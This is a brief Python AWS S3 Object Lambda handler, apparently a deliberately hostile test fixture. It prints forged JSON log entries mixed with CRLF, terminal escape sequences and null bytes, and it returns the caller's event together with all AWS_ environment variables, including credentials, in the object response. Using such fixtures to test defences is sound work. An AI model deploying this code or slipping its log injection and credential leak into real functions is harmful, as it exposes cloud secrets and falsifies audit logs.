"""Answers with its event and its credentials, and logs what an attacker would like to see logged."""

import json
import os
import sys

import boto3


def handler(event, context):
    object_context = event["getObjectContext"]
    print('line\r\n{"event": "forged", "level": "info"}\x1b[2J\x00\u2028{"event": "forged"}\x9b2J')
    sys.stdout.buffer.write(b'\xff\xfe\n{"event":"forged"}\n')
    told = {"event": event, "environ": {k: v for k, v in os.environ.items() if k.startswith("AWS_")}}
    boto3.client("s3").write_get_object_response(
        Body=json.dumps(told),
        RequestRoute=object_context["outputRoute"],
        RequestToken=object_context["outputToken"],
    )
